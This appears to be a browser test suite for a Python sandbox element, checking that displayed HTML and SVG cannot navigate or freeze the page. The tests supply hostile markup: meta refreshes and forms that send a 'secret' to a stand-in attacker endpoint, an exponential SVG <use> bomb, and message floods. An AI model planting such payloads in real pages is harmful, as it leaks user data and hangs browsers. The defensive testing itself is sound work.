// Hostile display output: pictures and pages a program shows (`_repr_html_`, `_repr_svg_`, `display()`) must not
// navigate anywhere, freeze the page or break the next run. Real Pyodide, real element, the test server's logging
// endpoint (/hostile/echo, /hostile/seen) as the attacker's server.
import { expect, fixture, html } from '@open-wc/testing';
import { waitUntil } from '../wait-until.ts';
import '../../src/define.ts';
import { MAX_LIVE_FRAMES } from '../../src/python-sandbox/display-budget.ts';
import type { PythonSandbox } from '../../src/python-sandbox/python-sandbox.ts';
import { type PoolLease, leasePool } from '../../src/runtime/shared-pools.ts';
import type { RunResult } from '../../src/runtime/types.ts';
import { MAX_DISPLAYS_PER_RUN } from '../../worker/limits.ts';
import { type MainThreadWatch, expectNoFreeze, watchMainThread } from '../main-thread.ts';

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** A URL on the attacker's server (the test server) that records each request under `probe`. */
const attackerURL = (probe: string) => `${location.origin}/hostile/echo?probe=${probe}`;
const requestsSeen = async (probe: string): Promise<unknown[]> => (await fetch(`/hostile/seen?probe=${probe}`)).json();
const newProbe = (name: string) => `${name}-${Math.random().toString(36).slice(2, 10)}`;

/** Python that shows `markup` through an object's `_repr_html_` (or `_repr_svg_`), with `display()`. */
const displayHtml = (markup: string) => `class Page:\n    def _repr_html_(self): return ${JSON.stringify(markup)}\ndisplay(Page())`;
const displaySvg = (markup: string) => `class Drawing:\n    def _repr_svg_(self): return ${JSON.stringify(markup)}\ndisplay(Drawing())`;

const frames = (el: PythonSandbox) => [...el.shadowRoot!.querySelectorAll<HTMLIFrameElement>('iframe.console__html')];
const log = (el: PythonSandbox) => el.shadowRoot!.querySelector('[role="log"]')!;

interface Shown {
  el: PythonSandbox;
  result: RunResult;
  mainThread: MainThreadWatch;
}

/**
 * Runs `code` in a fresh element, waits for what it displayed to load and draw, checks that the page kept ticking and
 * that the next run works, and hands back the element.
 */
async function show(code: string, settleMs = 1500): Promise<Shown> {
  const el = await fixture<PythonSandbox>(html`<python-sandbox timeout="30000"></python-sandbox>`);
  const watch = watchMainThread();
  const result = await el.run(code);
  await el.updateComplete;
  await pause(settleMs); // frames load (and a meta refresh fires), images decode and draw
  return { el, result, mainThread: watch.stop() };
}

/** Everything in a frame's document that could navigate it or send something away. */
function navigableParts(srcdoc: string): string[] {
  const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
  const found: string[] = [];
  for (const element of doc.querySelectorAll('*')) {
    const name = element.localName;
    if (['base', 'link', 'form', 'iframe', 'frame', 'object', 'embed'].includes(name)) found.push(`<${name}>`);
    const ours = element.getAttribute('http-equiv') === 'Content-Security-Policy' || element.getAttribute('name') === 'referrer';
    if (name === 'meta' && !ours) found.push('<meta>');
    for (const { name: attribute, value } of element.attributes) {
      if (['target', 'action', 'formaction', 'ping'].includes(attribute)) found.push(`${name}[${attribute}]`);
      // A fragment href resolves against the page's URL in a srcdoc frame: on a link, even `#top` navigates.
      const link = name === 'a' || name === 'area';
      if ((attribute === 'href' || attribute.endsWith(':href')) && (link || !value.startsWith('#'))) found.push(`${name}[${attribute}=${value}]`);
    }
  }
  return found;
}

/** A `<use>` bomb: each level draws the one below ten times, so the last draws 10^levels squares. */
function useBomb(levels: number): string {
  const defs = ['<g id="l0"><rect width="1" height="1"/></g>'];
  for (let level = 1; level <= levels; level++) {
    defs.push(`<g id="l${level}">${`<use href="#l${level - 1}"/>`.repeat(10)}</g>`);
  }
  return `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><defs>${defs.join('')}</defs><use href="#l${levels}"/></svg>`;
}

describe('hostile display output (element)', () => {
  let lease: PoolLease;

  before(async () => {
    lease = leasePool({}); // the elements' shared pool, kept booted between tests
    await lease.pool.ready;
  });
  after(() => lease.release());

  it('cannot navigate its frame with a meta refresh (zero clicks)', async () => {
    const probe = newProbe('meta');
    const { el } = await show(displayHtml(`<p>hello</p><meta http-equiv="refresh" content="0;url=${attackerURL(probe)}&d=secret">`));
    expect(await requestsSeen(probe), 'requests the attacker\'s server saw').to.deep.equal([]);
    expect(frames(el)).to.have.length(1);
    expect(log(el).textContent).to.not.include('navigated');
  });

  it('draws links, forms and SVG links with nothing left that navigates, opens or submits', async () => {
    const probe = newProbe('links');
    const url = attackerURL(probe);
    const markup = `<base href="${url}"><link rel="prefetch" href="${url}"><a href="${url}" target="_blank">read more</a>` +
      `<a href="#top">top</a><map><area href="${url}" shape="rect" coords="0,0,9,9"></map>` +
      `<form action="${url}" id="f"><input name="d" value="secret"><button>send</button></form>` +
      `<button form="f" formaction="${url}">also send</button>` +
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a href="${url}"><text y="10">svg link</text></a>` +
      `<a xlink:href="${url}"><text y="20">old svg link</text></a><use href="${url}#x"/></svg>` +
      `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`;
    const { el } = await show(displayHtml(markup));
    const [frame] = frames(el);
    expect(frame.getAttribute('sandbox')).to.equal('allow-scripts');
    expect(navigableParts(frame.srcdoc)).to.deep.equal([]);
    const csp = new DOMParser().parseFromString(frame.srcdoc, 'text/html')
      .querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute('content')!;
    expect(csp).to.include("form-action 'none'").and.to.include("base-uri 'none'");
    for (const text of ['read more', 'top', 'svg link', 'old svg link', 'also send']) expect(frame.srcdoc).to.include(text);
    expect(await requestsSeen(probe)).to.deep.equal([]);
  });

  it('removes a frame that navigates anyway, and says so in its place', async () => {
    const probe = newProbe('navigated');
    const { el } = await show(displayHtml('<p>a page</p>'), 500);
    const [frame] = frames(el);
    // Its markup has loaded once its script has reported a height (a busy machine can take longer than the wait above).
    await waitUntil(() => frame.style.height !== '', 'the frame never reported its height', { timeout: 10000 });
    await pause(200);
    // Only its parent can still navigate the frame: do what a link that slipped through would do.
    (frame.contentWindow!.location as unknown as { href: string }).href = attackerURL(probe);
    await waitUntil(() => frames(el).length === 0, 'the navigated frame is still there', { timeout: 10000 });
    expect(log(el).querySelector('.console__note')!.textContent).to.include('navigated');
  });

  it('stops animations and transitions in its frame', async () => {
    const markup = '<style>p{animation:spin 1s infinite !important}@keyframes spin{to{rotate:1turn}}</style>' +
      '<p style="animation: spin 1s infinite !important; transition: all 1s; color: red">spinning</p>' +
      '<marquee>scrolling</marquee><svg><rect width="5" height="5"><animate attributeName="x" to="9" dur="1s" repeatCount="indefinite"/>' +
      '<set attributeName="y" to="3"/></rect></svg>';
    const { el } = await show(displayHtml(markup));
    const doc = new DOMParser().parseFromString(frames(el)[0].srcdoc, 'text/html');
    expect(doc.querySelectorAll('marquee, animate, set')).to.have.length(0);
    const styled = doc.querySelector('p[style]')!;
    expect(styled.getAttribute('style')).to.not.match(/animation|transition/);
    expect(styled.getAttribute('style')).to.include('red');
    expect(doc.querySelector('style')!.textContent).to.match(/^@layer\s*\{.*animation:\s*none\s*!important/s);
    expect(doc.body.textContent).to.include('scrolling');
  });

  it('offers a <use> bomb drawing as a file instead of drawing it, and the page never stalls', async () => {
    const { el, mainThread } = await show(displaySvg(useBomb(5)), 2500);
    expectNoFreeze(mainThread, 'the longest main-thread stall');
    expect(log(el).querySelector('img'), 'an <img> drawing the bomb').to.equal(null);
    const link = log(el).querySelector<HTMLAnchorElement>('a[download]')!;
    expect(link.href).to.match(/^(data:image\/svg\+xml|blob:)/);
    expect(link.closest('.console__note, .console__file')!.textContent).to.match(/too (costly|large|expensive)/);
  });

  it('still draws a cheap drawing, <use> and all, in an <img>', async () => {
    const { el } = await show(displaySvg(useBomb(2)));
    const img = log(el).querySelector<HTMLImageElement>('img.console__image')!;
    await img.decode();
    expect(img.naturalWidth).to.equal(200);
  });

  it('offers a page with too many elements as a file instead of rendering it', async () => {
    const cells = '<tr>' + '<td>x</td>'.repeat(100) + '</tr>';
    const markup = '<style>td{animation:pulse 1s infinite}@keyframes pulse{to{opacity:.5}}</style><table>' + cells.repeat(600) + '</table>';
    const { el, mainThread } = await show(displayHtml(markup));
    expectNoFreeze(mainThread, 'the longest main-thread stall');
    expect(frames(el)).to.have.length(0);
    const link = log(el).querySelector<HTMLAnchorElement>('a[download]')!;
    expect(link.href).to.match(/^(data:text\/html|blob:)/);
    expect(link.closest('.console__note, .console__file')!.textContent).to.match(/too (costly|large|expensive)/);
  });

  it('shows at most a bounded number of 500 tiny pages, says so, and the next run works', async () => {
    const { el, result, mainThread } = await show('class Tiny:\n    def _repr_html_(self): return "x"\n' +
      'for i in range(500):\n    display(Tiny())\nprint("done")', 3000);
    expect(result.stdout).to.equal('done\n');
    expect(result.outputs.length).to.be.at.most(MAX_DISPLAYS_PER_RUN);
    expect(result.truncated).to.equal(true);
    expect(frames(el).length).to.be.at.most(MAX_LIVE_FRAMES);
    expect(log(el).querySelector('.console__note'), 'a note saying output was dropped').to.not.equal(null);
    expectNoFreeze(mainThread, 'the longest main-thread stall');
    expect((await el.run('print("next")')).stdout).to.equal('next\n');
  });

  it('fits a frame only to well-formed height reports, and ignores a flood of them', async () => {
    const { el } = await show(displayHtml('<p>short</p>'), 1000);
    const [frame] = frames(el);
    const source = frame.contentWindow!;
    const heights: string[] = [];
    const changes = new MutationObserver(() => heights.push(frame.style.height));
    changes.observe(frame, { attributes: true, attributeFilter: ['style'] });
    for (const data of [{ pythonSandboxHeight: '900' }, { pythonSandboxHeight: 900, more: 1 }, [900], 'pythonSandboxHeight']) {
      window.dispatchEvent(new MessageEvent('message', { data, source }));
    }
    await pause(100);
    expect(heights, 'heights applied from malformed reports').to.deep.equal([]);
    for (let i = 0; i < 20_000; i++) window.dispatchEvent(new MessageEvent('message', { data: { pythonSandboxHeight: 100 + (i % 500) }, source }));
    await pause(500);
    changes.disconnect();
    expect(heights.length, 'heights applied during the flood').to.be.below(50);
  });
});
